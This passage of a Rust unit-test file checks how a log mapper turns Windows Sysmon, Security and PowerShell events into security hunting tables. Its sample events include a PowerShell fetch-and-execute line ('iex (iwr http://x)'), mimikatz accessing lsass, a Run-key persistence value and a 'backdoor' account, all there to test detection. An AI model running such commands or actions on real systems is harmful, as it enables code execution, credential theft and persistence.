//! Unit tests of the EVTX mapping (no I/O): hand-written events → expected table and
//! key columns, one case per mapped event id, plus the unmapped rule, the `raw` rule
//! and malformed input.

use rampart_schema::{ColumnType, catalog};
use serde_json::{Map, Value, json};

use super::value::{executable, normalize_time, registry_details, registry_key};
use super::{EvtxError, MappedEvent, WinEvent, device_id, map_event};

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const SECURITY: &str = "Security";
const COMPUTER: &str = "WS01.contoso.local";

/// An event in the evtx crate's JSON layout.
fn evtx_json(channel: &str, provider: &str, id: u32, data: Value) -> Value {
    json!({"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider, "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},
            "EventID": id, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": "2025-12-25T14:30:27.3691148Z"}},
            "EventRecordID": 4242, "Correlation": null,
            "Execution": {"#attributes": {"ProcessID": 3208, "ThreadID": 1724}},
            "Channel": channel, "Computer": COMPUTER,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}
        },
        "EventData": data
    }})
}

fn provider_of(channel: &str) -> &'static str {
    match channel {
        SYSMON => "Microsoft-Windows-Sysmon",
        SECURITY => "Microsoft-Windows-Security-Auditing",
        "System" => "Service Control Manager",
        "Microsoft-Windows-PowerShell/Operational" => "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-Windows Defender/Operational" => "Microsoft-Windows-Windows Defender",
        "Microsoft-Windows-TaskScheduler/Operational" => "Microsoft-Windows-TaskScheduler",
        _ => "Some-Provider",
    }
}

fn map_json(channel: &str, id: u32, data: Value) -> MappedEvent {
    let v = evtx_json(channel, provider_of(channel), id, data);
    let e = WinEvent::from_evtx_json(&v).unwrap_or_else(|err| panic!("{channel} {id}: {err}"));
    map_event(&e)
}

/// The row follows the conventions the Arrow validator relies on.
fn assert_row_conventions(m: &MappedEvent) {
    let table = catalog()
        .table(m.table)
        .unwrap_or_else(|| panic!("unknown table {}", m.table));
    assert!(!m.row.contains_key("ReportId"), "ReportId is the server's");
    for (k, v) in &m.row {
        let (_, col) = table
            .column(k)
            .unwrap_or_else(|| panic!("{} has no column {k}", m.table));
        if k == "AdditionalFields" {
            assert!(v.is_object(), "AdditionalFields must be an object: {v}");
            continue;
        }
        let ok = match col.kind {
            ColumnType::String | ColumnType::Guid => v.as_str().is_some_and(|s| !s.is_empty()),
            ColumnType::Long | ColumnType::Int => v.is_i64(),
            ColumnType::Bool => v.is_boolean(),
            ColumnType::DateTime => v
                .as_str()
                .is_some_and(|s| s.ends_with('Z') && normalize_time(s).as_deref() == Some(s)),
            ColumnType::Real => v.is_f64(),
            ColumnType::Dynamic => true,
        };
        assert!(
            ok,
            "{}.{k} ({:?}) has a wrong value: {v}",
            m.table, col.kind
        );
    }
}

struct Case {
    channel: &'static str,
    id: u32,
    data: Value,
    table: &'static str,
    /// Columns the row must hold with exactly these values (a subset of the row).
    expect: Value,
}

fn check(cases: &[Case]) {
    for c in cases {
        let m = map_json(c.channel, c.id, c.data.clone());
        let what = format!("{} {}", c.channel, c.id);
        assert_eq!(m.table, c.table, "{what}: table");
        assert_row_conventions(&m);
        for (k, v) in c.expect.as_object().into_iter().flatten() {
            assert_eq!(
                m.row.get(k),
                Some(v),
                "{what}: column {k} in {:#}",
                Value::Object(m.row.clone())
            );
        }
        if m.table.starts_with("Device") {
            assert_eq!(
                m.row.get("DeviceName"),
                Some(&json!(COMPUTER.to_lowercase())),
                "{what}: DeviceName"
            );
            assert_eq!(
                m.row.get("DeviceId"),
                Some(&json!(device_id(COMPUTER))),
                "{what}: DeviceId"
            );
        }
    }
}

#[test]
fn sysmon_events_map_to_device_tables() {
    check(&[
        Case {
            channel: SYSMON,
            id: 1,
            data: json!({
                "RuleName": "-", "UtcTime": "2025-12-25 14:30:27.365", "ProcessGuid": "{A}", "ProcessId": 6180,
                "Image": "C:\\Windows\\System32\\cmd.exe", "FileVersion": "10.0.1", "Description": "Windows Command Processor",
                "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
                "OriginalFileName": "Cmd.Exe", "CommandLine": "cmd.exe /c whoami", "CurrentDirectory": "C:\\",
                "User": "CONTOSO\\Alice", "LogonGuid": "{B}", "LogonId": "0x33e8d150", "TerminalSessionId": 2,
                "IntegrityLevel": "High", "Hashes": "SHA1=AAAA,MD5=BBBB,SHA256=CCCC,IMPHASH=DDDD",
                "ParentProcessGuid": "{C}", "ParentProcessId": 6428, "ParentImage": "C:\\Windows\\explorer.exe",
                "ParentCommandLine": "C:\\Windows\\Explorer.EXE", "ParentUser": "NT AUTHORITY\\SYSTEM"
            }),
            table: "DeviceProcessEvents",
            expect: json!({
                "ActionType": "ProcessCreated", "Timestamp": "2025-12-25T14:30:27.369114Z",
                "DeviceName": "ws01.contoso.local", "FileName": "cmd.exe", "FolderPath": "C:\\Windows\\System32\\cmd.exe",
                "ProcessCommandLine": "cmd.exe /c whoami", "ProcessId": 6180, "ProcessIntegrityLevel": "High",
                "ProcessCreationTime": "2025-12-25T14:30:27.365000Z", "ProcessVersionInfoCompanyName": "Microsoft Corporation",
                "ProcessVersionInfoOriginalFileName": "Cmd.Exe", "ProcessVersionInfoProductVersion": "10.0.1",
                "SHA1": "aaaa", "MD5": "bbbb", "SHA256": "cccc", "AccountDomain": "contoso", "AccountName": "alice",
                "LogonId": 0x33e8_d150, "CreatedProcessSessionId": 2,
                "InitiatingProcessFileName": "explorer.exe", "InitiatingProcessFolderPath": "C:\\Windows\\explorer.exe",
                "InitiatingProcessCommandLine": "C:\\Windows\\Explorer.EXE", "InitiatingProcessId": 6428,
                "InitiatingProcessAccountName": "system", "InitiatingProcessAccountDomain": "nt authority",
                "InitiatingProcessAccountSid": "S-1-5-18",
                "AdditionalFields": {"ProcessGuid": "{A}", "CurrentDirectory": "C:\\", "LogonGuid": "{B}", "ParentProcessGuid": "{C}"}
            }),
        },
        Case {
            channel: SYSMON,
            id: 3,
            data: json!({
                "Image": "C:\\Windows\\System32\\rundll32.exe", "ProcessId": "1234", "User": "CONTOSO\\bob",
                "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.0.0.5",
                "SourceHostname": "ws01", "SourcePort": 50123, "DestinationIp": "93.184.216.34",
                "DestinationHostname": "example.com", "DestinationPort": 443, "DestinationPortName": "https"
            }),
            table: "DeviceNetworkEvents",
            expect: json!({
                "ActionType": "ConnectionSuccess", "LocalIP": "10.0.0.5", "LocalPort": 50123, "LocalIPType": "Private",
                "RemoteIP": "93.184.216.34", "RemotePort": 443, "RemoteIPType": "Public", "RemoteUrl": "example.com",
                "Protocol": "Tcp", "InitiatingProcessFileName": "rundll32.exe", "InitiatingProcessId": 1234,
                "InitiatingProcessAccountName": "bob"
            }),
        },
        Case {
            channel: SYSMON,
            id: 3,
            data: json!({
                "Image": "System", "ProcessId": 4, "Protocol": "tcp", "Initiated": false,
                "SourceIp": "10.0.0.5", "SourcePort": 445, "DestinationIp": "203.0.113.9", "DestinationPort": 51000
            }),
            table: "DeviceNetworkEvents",
            expect: json!({
                "ActionType": "InboundConnectionAccepted", "LocalIP": "10.0.0.5", "LocalPort": 445,
                "RemoteIP": "203.0.113.9", "RemotePort": 51000
            }),
        },
        Case {
            channel: SYSMON,
            id: 7,
            data: json!({
                "Image": "C:\\Windows\\System32\\rundll32.exe", "ProcessId": 77, "ImageLoaded": "C:\\Temp\\evil.dll",
                "Hashes": "SHA256=ABCDEF", "Signed": "false", "User": "CONTOSO\\bob"
            }),
            table: "DeviceImageLoadEvents",
            expect: json!({
                "ActionType": "ImageLoaded", "FileName": "evil.dll", "FolderPath": "C:\\Temp\\evil.dll", "SHA256": "abcdef",
                "InitiatingProcessFileName": "rundll32.exe", "InitiatingProcessId": 77
            }),
        },
        Case {
            channel: SYSMON,
            id: 11,
            data: json!({"Image": "C:\\x\\a.exe", "ProcessId": 5, "TargetFilename": "C:\\Users\\Public\\p.ps1",
                "CreationUtcTime": "2025-12-25 14:30:00.000"}),
            table: "DeviceFileEvents",
            expect: json!({"ActionType": "FileCreated", "FileName": "p.ps1", "FolderPath": "C:\\Users\\Public\\p.ps1",
                "InitiatingProcessFolderPath": "C:\\x\\a.exe", "AdditionalFields": {"CreationUtcTime": "2025-12-25 14:30:00.000"}}),
        },
        Case {
            channel: SYSMON,
            id: 23,
            data: json!({"Image": "C:\\x\\a.exe", "TargetFilename": "C:\\t\\gone.txt", "Hashes": "MD5=01", "IsExecutable": "false", "Archived": "true"}),
            table: "DeviceFileEvents",
            expect: json!({"ActionType": "FileDeleted", "FileName": "gone.txt", "MD5": "01"}),
        },
        Case {
            channel: SYSMON,
            id: 26,
            data: json!({"Image": "C:\\x\\a.exe", "TargetFilename": "C:\\t\\gone.txt"}),
            table: "DeviceFileEvents",
            expect: json!({"ActionType": "FileDeleted", "FolderPath": "C:\\t\\gone.txt"}),
        },
        Case {
            channel: SYSMON,
            id: 12,
            data: json!({"EventType": "CreateKey", "Image": "C:\\x\\reg.exe", "TargetObject": "HKLM\\SOFTWARE\\Evil"}),
            table: "DeviceRegistryEvents",
            expect: json!({"ActionType": "RegistryKeyCreated", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Evil"}),
        },
        Case {
            channel: SYSMON,
            id: 12,
            data: json!({"EventType": "DeleteKey", "TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Evil"}),
            table: "DeviceRegistryEvents",
            expect: json!({"ActionType": "RegistryKeyDeleted", "RegistryKey": "HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1001\\Software\\Evil"}),
        },
        Case {
            channel: SYSMON,
            id: 12,
            data: json!({"EventType": "DeleteValue", "TargetObject": "HKLM\\SOFTWARE\\Run\\evil"}),
            table: "DeviceRegistryEvents",
            expect: json!({"ActionType": "RegistryValueDeleted", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Run", "RegistryValueName": "evil"}),
        },
        Case {
            channel: SYSMON,
            id: 13,
            data: json!({"EventType": "SetValue", "Image": "C:\\x\\reg.exe", "ProcessId": 9,
                "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil", "Details": "DWORD (0x00000010)"}),
            table: "DeviceRegistryEvents",
            expect: json!({"ActionType": "RegistryValueSet",
                "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "RegistryValueName": "evil", "RegistryValueType": "Dword", "RegistryValueData": "16",
                "InitiatingProcessFileName": "reg.exe", "InitiatingProcessId": 9}),
        },
        Case {
            channel: SYSMON,
            id: 14,
            data: json!({"EventType": "RenameKey", "TargetObject": "HKLM\\SOFTWARE\\Old", "NewName": "HKLM\\SOFTWARE\\New"}),
            table: "DeviceRegistryEvents",
            expect: json!({"ActionType": "RegistryKeyRenamed", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\New",
                "PreviousRegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Old"}),
        },
        Case {
            channel: SYSMON,
            id: 8,
            data: json!({"SourceProcessId": 10, "SourceImage": "C:\\x\\inject.exe", "TargetProcessId": 20,
                "TargetImage": "C:\\Windows\\System32\\notepad.exe", "NewThreadId": 3, "StartAddress": "0x1000",
                "StartModule": "-", "StartFunction": "-", "SourceUser": "CONTOSO\\bob", "TargetUser": "CONTOSO\\bob"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "CreateRemoteThreadApiCall", "InitiatingProcessFileName": "inject.exe",
                "InitiatingProcessId": 10, "FileName": "notepad.exe", "ProcessId": 20,
                "AdditionalFields": {"NewThreadId": 3, "StartAddress": "0x1000"}}),
        },
        Case {
            channel: SYSMON,
            id: 10,
            data: json!({"SourceProcessId": 10, "SourceImage": "C:\\x\\mimikatz.exe", "TargetProcessId": 600,
                "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010", "CallTrace": "ntdll.dll+1"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "OpenProcessApiCall", "FileName": "lsass.exe", "ProcessId": 600,
                "InitiatingProcessFileName": "mimikatz.exe",
                "AdditionalFields": {"GrantedAccess": "0x1010", "DesiredAccess": 4112, "CallTrace": "ntdll.dll+1"}}),
        },
        Case {
            channel: SYSMON,
            id: 22,
            data: json!({"Image": "C:\\x\\a.exe", "ProcessId": 4, "QueryName": "evil.example", "QueryStatus": "0",
                "QueryResults": "::ffff:1.2.3.4;"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "DnsQueryResponse", "InitiatingProcessFileName": "a.exe",
                "AdditionalFields": {"DnsQueryString": "evil.example", "QueryStatus": "0", "QueryResults": "::ffff:1.2.3.4;"}}),
        },
        Case {
            channel: SYSMON,
            id: 5,
            data: json!({"Image": "C:\\x\\a.exe", "ProcessId": 4}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ProcessTerminated", "InitiatingProcessFileName": "a.exe"}),
        },
        Case {
            channel: SYSMON,
            id: 6,
            data: json!({"ImageLoaded": "C:\\Windows\\System32\\drivers\\x.sys", "Hashes": "SHA1=AB", "Signed": "true"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "DriverLoad", "FileName": "x.sys", "SHA1": "ab", "AdditionalFields": {"Signed": "true"}}),
        },
        Case {
            channel: SYSMON,
            id: 15,
            data: json!({"Image": "C:\\b.exe", "TargetFilename": "C:\\d\\f.exe:Zone.Identifier", "Hash": "SHA256=EE", "Contents": "[ZoneTransfer]"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "FileStreamCreated", "FileName": "f.exe:Zone.Identifier", "SHA256": "ee"}),
        },
        Case {
            channel: SYSMON,
            id: 17,
            data: json!({"Image": "C:\\b.exe", "PipeName": "\\evilpipe", "EventType": "CreatePipe"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "NamedPipeEvent", "AdditionalFields": {"PipeName": "\\Device\\NamedPipe\\evilpipe",
                "FileOperation": "File created", "NamedPipeEnd": "Server", "EventType": "CreatePipe"}}),
        },
        Case {
            channel: SYSMON,
            id: 18,
            data: json!({"Image": "C:\\b.exe", "PipeName": "\\evilpipe"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "NamedPipeEvent"}),
        },
        Case {
            channel: SYSMON,
            id: 19,
            data: json!({"EventType": "WmiFilterEvent", "Operation": "Created", "User": "CONTOSO\\admin", "Name": "f"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WmiEventFilterRegistered", "AccountName": "admin"}),
        },
        Case {
            channel: SYSMON,
            id: 20,
            data: json!({}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WmiEventConsumerRegistered"}),
        },
        Case {
            channel: SYSMON,
            id: 21,
            data: json!({}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WmiBindEventFilterToConsumer"}),
        },
        Case {
            channel: SYSMON,
            id: 25,
            data: json!({"Image": "C:\\b.exe", "Type": "Image is replaced"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ProcessTampering", "AdditionalFields": {"Type": "Image is replaced"}}),
        },
        Case {
            channel: SYSMON,
            id: 99,
            data: json!({"Foo": "bar"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "WinEvent:Microsoft-Windows-Sysmon/Operational:99", "AdditionalFields": {"Foo": "bar"}}),
        },
    ]);
}

#[test]
fn security_events_map_to_device_tables() {
    let logon = json!({
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CONTOSO", "SubjectLogonId": "0x3e7",
        "TargetUserSid": "S-1-5-21-1-2-3-1104", "TargetUserName": "Alice", "TargetDomainName": "CONTOSO",
        "TargetLogonId": "0x8dcdc", "LogonType": 10, "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate",
        "WorkstationName": "ATTACKER", "IpAddress": "203.0.113.7", "IpPort": "51234", "ElevatedToken": "%%1842",
        "ProcessId": "0x1c8", "ProcessName": "C:\\Windows\\System32\\svchost.exe", "Status": "0xc000006d",
        "SubStatus": "0xc000006a", "FailureReason": "%%2313"
    });
    check(&[
        Case {
            channel: SECURITY,
            id: 4624,
            data: logon.clone(),
            table: "DeviceLogonEvents",
            expect: json!({"ActionType": "LogonSuccess", "LogonType": "RemoteInteractive", "AccountName": "alice",
                "AccountDomain": "contoso", "AccountSid": "S-1-5-21-1-2-3-1104", "LogonId": 580_828, "RemoteIP": "203.0.113.7",
                "RemoteIPType": "Public", "RemotePort": 51234, "RemoteDeviceName": "ATTACKER", "Protocol": "Negotiate",
                "IsLocalAdmin": true, "InitiatingProcessId": 456, "InitiatingProcessFileName": "svchost.exe",
                "InitiatingProcessAccountName": "ws01$"}),
        },
        Case {
            channel: SECURITY,
            id: 4625,
            data: json!({"TargetUserName": "alice", "TargetDomainName": "CONTOSO", "LogonType": "3", "Status": "0xc000006d",
                "SubStatus": "0xc000006a", "IpAddress": "-", "IpPort": "-", "FailureReason": "%%2313"}),
            table: "DeviceLogonEvents",
            expect: json!({"ActionType": "LogonFailed", "LogonType": "Network", "FailureReason": "WrongPassword",
                "AdditionalFields": {"Status": "0xc000006d", "SubStatus": "0xc000006a", "FailureReason": "%%2313"}}),
        },
        Case {
            channel: SECURITY,
            id: 4648,
            data: json!({"SubjectUserName": "bob", "SubjectDomainName": "CONTOSO", "TargetUserName": "admin",
                "TargetDomainName": "CONTOSO", "TargetServerName": "dc01.contoso.local", "ProcessId": "0x10",
                "ProcessName": "C:\\Windows\\System32\\runas.exe", "IpAddress": "::1", "IpPort": "0"}),
            table: "DeviceLogonEvents",
            expect: json!({"ActionType": "LogonAttempted", "AccountName": "admin", "RemoteDeviceName": "dc01.contoso.local",
                "RemoteIP": "::1", "RemoteIPType": "Loopback", "InitiatingProcessAccountName": "bob", "InitiatingProcessId": 16}),
        },
        Case {
            channel: SECURITY,
            id: 4688,
            data: json!({"SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": "alice", "SubjectDomainName": "CONTOSO",
                "SubjectLogonId": "0x8dcdc", "NewProcessId": "0x1a4", "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
                "TokenElevationType": "%%1937", "ProcessId": "0x10c", "CommandLine": "whoami /all",
                "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "MandatoryLabel": "S-1-16-12288"}),
            table: "DeviceProcessEvents",
            expect: json!({"ActionType": "ProcessCreated", "FileName": "whoami.exe", "ProcessId": 420,
                "ProcessCommandLine": "whoami /all", "ProcessTokenElevation": "TokenElevationTypeFull",
                "ProcessIntegrityLevel": "High", "AccountName": "alice", "AccountSid": "S-1-5-21-1-2-3-1104",
                "LogonId": 580_828, "InitiatingProcessId": 268, "InitiatingProcessFileName": "cmd.exe",
                "ProcessCreationTime": "2025-12-25T14:30:27.369114Z"}),
        },
        Case {
            channel: SECURITY,
            id: 4698,
            data: json!({"SubjectUserSid": "S-1-5-21-1", "SubjectUserName": "alice", "SubjectDomainName": "CONTOSO",
                "SubjectLogonId": "0x1", "TaskName": "\\Evil", "TaskContent": "<Task/>"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ScheduledTaskCreated", "AccountName": "alice", "LogonId": 1,
                "AdditionalFields": {"TaskName": "\\Evil", "TaskContent": "<Task/>"}}),
        },
        Case {
            channel: SECURITY,
            id: 4699,
            data: json!({}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ScheduledTaskDeleted"}),
        },
        Case {
            channel: SECURITY,
            id: 4702,
            data: json!({}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ScheduledTaskUpdated"}),
        },
        Case {
            channel: SECURITY,
            id: 4697,
            data: json!({"SubjectUserName": "alice", "ServiceName": "evil", "ServiceFileName": "C:\\Temp\\evil.exe -k",
                "ServiceType": "0x10", "ServiceStartType": 3, "ServiceAccount": "LocalSystem"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ServiceInstalled", "FileName": "evil.exe", "FolderPath": "C:\\Temp\\evil.exe",
                "AdditionalFields": {"ServiceName": "evil", "ServiceFileName": "C:\\Temp\\evil.exe -k", "ServiceType": "0x10",
                    "ServiceStartType": 3, "ServiceAccount": "LocalSystem"}}),
        },
        Case {
            channel: SECURITY,
            id: 4657,
            data: json!({"SubjectUserName": "alice", "ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Run", "ObjectValueName": "x",
                "OperationType": "%%1905", "OldValueType": "%%1873", "OldValue": "a", "NewValueType": "%%1873", "NewValue": "b",
                "ProcessId": "0x20", "ProcessName": "C:\\Windows\\regedit.exe"}),
            table: "DeviceRegistryEvents",
            expect: json!({"ActionType": "RegistryValueSet", "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Run",
                "RegistryValueName": "x", "RegistryValueData": "b", "PreviousRegistryValueData": "a",
                "RegistryValueType": "String", "InitiatingProcessId": 32}),
        },
    ]);
}

#[test]
fn log_cleared_reads_user_data() {
    let v = json!({"Event": {"System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}}, "EventID": 1102,
            "TimeCreated": {"#attributes": {"SystemTime": "2025-12-25T14:30:27Z"}}, "Channel": "Security", "Computer": COMPUTER},
        "UserData": {"LogFileCleared": {"#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
            "SubjectUserSid": "S-1-5-21-1", "SubjectUserName": "alice", "SubjectDomainName": "CONTOSO", "SubjectLogonId": "0x1"}}}});
    let m = map_event(&WinEvent::from_evtx_json(&v).unwrap_or_else(|e| panic!("{e}")));
    assert_eq!(
        (m.table, &m.row["ActionType"]),
        ("DeviceEvents", &json!("SecurityLogCleared"))
    );
    assert_eq!(m.row["AccountName"], "alice");
    assert_eq!(m.raw["SubjectUserName"], "alice");
    assert_row_conventions(&m);
}

#[test]
fn domain_events_map_to_identity_tables() {
    check(&[
        Case {
            channel: SECURITY,
            id: 4768,
            data: json!({"TargetUserName": "alice", "TargetDomainName": "CONTOSO.LOCAL", "TargetSid": "S-1-5-21-1-1104",
                "ServiceName": "krbtgt", "Status": "0x0", "IpAddress": "::ffff:10.0.0.5", "IpPort": "50000",
                "TicketEncryptionType": "0x12"}),
            table: "IdentityLogonEvents",
            expect: json!({"ActionType": "LogonSuccess", "Protocol": "Kerberos", "LogonType": "Credentials validation",
                "AccountName": "alice", "AccountDomain": "contoso.local", "AccountSid": "S-1-5-21-1-1104",
                "IPAddress": "10.0.0.5", "Port": 50000, "DestinationDeviceName": "ws01.contoso.local",
                "Application": "Active Directory"}),
        },
        Case {
            channel: SECURITY,
            id: 4769,
            data: json!({"TargetUserName": "alice@CONTOSO.LOCAL", "TargetDomainName": "CONTOSO.LOCAL", "ServiceName": "FS01$",
                "Status": "0x0", "IpAddress": "::ffff:10.0.0.5", "TicketEncryptionType": "0x17"}),
            table: "IdentityLogonEvents",
            expect: json!({"ActionType": "LogonSuccess", "LogonType": "Resource access", "AccountName": "alice",
                "TargetDeviceName": "fs01", "AdditionalFields": {"ServiceName": "FS01$", "Status": "0x0", "TicketEncryptionType": "0x17"}}),
        },
        Case {
            channel: SECURITY,
            id: 4771,
            data: json!({"TargetUserName": "alice", "TargetSid": "S-1-5-21-1-1104", "Status": "0x18", "IpAddress": "::ffff:10.0.0.9"}),
            table: "IdentityLogonEvents",
            expect: json!({"ActionType": "LogonFailed", "FailureReason": "WrongPassword", "IPAddress": "10.0.0.9"}),
        },
        Case {
            channel: SECURITY,
            id: 4776,
            data: json!({"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": "Alice",
                "Workstation": "WS02", "Status": "0xc0000064"}),
            table: "IdentityLogonEvents",
            expect: json!({"ActionType": "LogonFailed", "Protocol": "Ntlm", "AccountName": "alice", "DeviceName": "ws02",
                "FailureReason": "UnknownUser"}),
        },
        Case {
            channel: SECURITY,
            id: 4720,
            data: json!({"TargetUserName": "eve", "TargetDomainName": "CONTOSO", "TargetSid": "S-1-5-21-1-2001",
                "SubjectUserName": "admin", "SubjectDomainName": "CONTOSO", "DisplayName": "Eve E", "UserPrincipalName": "eve@contoso.local"}),
            table: "IdentityDirectoryEvents",
            expect: json!({"ActionType": "User Account Created", "AccountName": "eve", "AccountSid": "S-1-5-21-1-2001",
                "AccountUpn": "eve@contoso.local", "TargetAccountDisplayName": "Eve E",
                "AdditionalFields": {"ACTOR.ACCOUNT": "admin", "TARGET_OBJECT.USER": "eve", "SubjectDomainName": "CONTOSO"}}),
        },
        Case {
            channel: SECURITY,
            id: 4725,
            data: json!({"TargetUserName": "eve", "TargetDomainName": "CONTOSO", "SubjectUserName": "admin"}),
            table: "IdentityDirectoryEvents",
            expect: json!({"ActionType": "Account Disabled changed",
                "AdditionalFields": {"ACTOR.ACCOUNT": "admin", "TARGET_OBJECT.USER": "eve", "FROM Account Disabled": "false", "TO Account Disabled": "true"}}),
        },
        Case {
            channel: SECURITY,
            id: 4724,
            data: json!({"TargetUserName": "eve", "TargetDomainName": "CONTOSO"}),
            table: "IdentityDirectoryEvents",
            expect: json!({"ActionType": "Account Password changed"}),
        },
        Case {
            channel: SECURITY,
            id: 4728,
            data: json!({"MemberName": "CN=Eve E,CN=Users,DC=contoso,DC=local", "MemberSid": "S-1-5-21-1-2001",
                "TargetUserName": "Domain Admins", "TargetDomainName": "CONTOSO", "TargetSid": "S-1-5-21-1-512", "SubjectUserName": "admin"}),
            table: "IdentityDirectoryEvents",
            expect: json!({"ActionType": "Group Membership changed", "AccountSid": "S-1-5-21-1-2001", "AccountName": "eve e",
                "AdditionalFields": {"TO.GROUP": "Domain Admins", "TARGET_OBJECT.USER": "Eve E", "ACTOR.ACCOUNT": "admin",
                    "MemberName": "CN=Eve E,CN=Users,DC=contoso,DC=local", "TargetDomainName": "CONTOSO", "TargetSid": "S-1-5-21-1-512"}}),
        },
        Case {
            channel: SECURITY,
            id: 4757,
            data: json!({"MemberSid": "S-1-5-21-1-2001", "TargetUserName": "Enterprise Admins", "TargetDomainName": "CONTOSO"}),
            table: "IdentityDirectoryEvents",
            expect: json!({"ActionType": "Group Membership changed", "AdditionalFields": {"FROM.GROUP": "Enterprise Admins", "TargetDomainName": "CONTOSO"}}),
        },
        // The machine's own accounts and groups are local SAM changes.
        Case {
            channel: SECURITY,
            id: 4732,
            data: json!({"MemberName": "-", "MemberSid": "S-1-5-21-9-1001", "TargetUserName": "Administrators",
                "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", "SubjectUserName": "alice", "SubjectDomainName": "WS01"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "UserAccountAddedToLocalGroup", "AccountSid": "S-1-5-21-9-1001",
                "InitiatingProcessAccountName": "alice",
                "AdditionalFields": {"GroupName": "Administrators", "GroupDomainName": "Builtin", "GroupSid": "S-1-5-32-544"}}),
        },
        Case {
            channel: SECURITY,
            id: 4720,
            data: json!({"TargetUserName": "backdoor", "TargetDomainName": "WS01", "TargetSid": "S-1-5-21-9-1002"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "UserAccountCreated", "AccountName": "backdoor", "AccountDomain": "ws01"}),
        },
        Case {
            channel: SECURITY,
            id: 4726,
            data: json!({"TargetUserName": "backdoor", "TargetDomainName": "ws01"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "UserAccountDeleted"}),
        },
    ]);
}

#[test]
fn other_channels_map_to_device_events() {
    check(&[
        Case {
            channel: "System",
            id: 7045,
            data: json!({"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
                "StartType": "demand start", "AccountName": "LocalSystem"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "ServiceInstalled", "FileName": "PSEXESVC.exe", "FolderPath": "%SystemRoot%\\PSEXESVC.exe",
                "AdditionalFields": {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                    "ServiceType": "user mode service", "ServiceStartType": "demand start", "ServiceAccount": "LocalSystem"}}),
        },
        Case {
            channel: "Microsoft-Windows-PowerShell/Operational",
            id: 4103,
            data: json!({"ContextInfo": "        Severity = Informational\r\n        Host Application = powershell.exe -nop\r\n        Command Name = Invoke-WebRequest\r\n        User = CONTOSO\\alice\r\n",
                "UserData": "", "Payload": "CommandInvocation(Invoke-WebRequest)"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "PowerShellCommand", "InitiatingProcessCommandLine": "powershell.exe -nop",
                "InitiatingProcessAccountName": "alice", "InitiatingProcessAccountDomain": "contoso"}),
        },
        Case {
            channel: "Microsoft-Windows-PowerShell/Operational",
            id: 4104,
            data: json!({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "iex (iwr http://x)", "ScriptBlockId": "{1}", "Path": ""}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "PowerShellScriptBlock",
                "AdditionalFields": {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "iex (iwr http://x)", "ScriptBlockId": "{1}"}}),
        },
        Case {
            channel: "Microsoft-Windows-Windows Defender/Operational",
            id: 1116,
            data: json!({"Threat Name": "Virus:DOS/EICAR_Test_File", "Path": "file:_C:\\Temp\\eicar.com;file:_C:\\x",
                "Process Name": "C:\\Windows\\explorer.exe", "Detection User": "CONTOSO\\alice"}),
            table: "DeviceEvents",
            expect: json!({"ActionType": "AntivirusDetection", "FileName": "eicar.com", "FolderPath": "C:\\Temp\\eicar.com",
